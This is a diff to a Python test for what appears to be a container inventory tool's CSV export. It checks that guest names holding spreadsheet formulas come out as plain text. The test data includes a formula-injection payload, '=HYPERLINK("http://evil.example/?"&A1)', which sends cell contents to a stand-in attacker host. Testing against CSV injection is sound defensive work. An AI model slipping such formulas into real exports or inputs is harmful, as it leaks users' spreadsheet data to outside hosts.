@@ -61,7 +61,7 @@ async def _infected(running: Running) -> None:
 async def test_names_of_formulas_are_text_in_a_spreadsheet(paddock: Paddock, estates: Estates) -> None:
     async with estates(ClusterScene.simple("prod", nodes=1, containers=2)) as running:
         for guest in running.estate["prod"].guests.values():
-            guest.config["hostname"] = '=HYPERLINK("http://evil.example/?"&A1)'
+            guest.name = '=HYPERLINK("http://evil.example/?"&A1)'
         await paddock.imported(await paddock.site("Vienna"), running["prod"])
         status, text, headers = await paddock.browser.get("/containers.csv")
         assert (status, headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
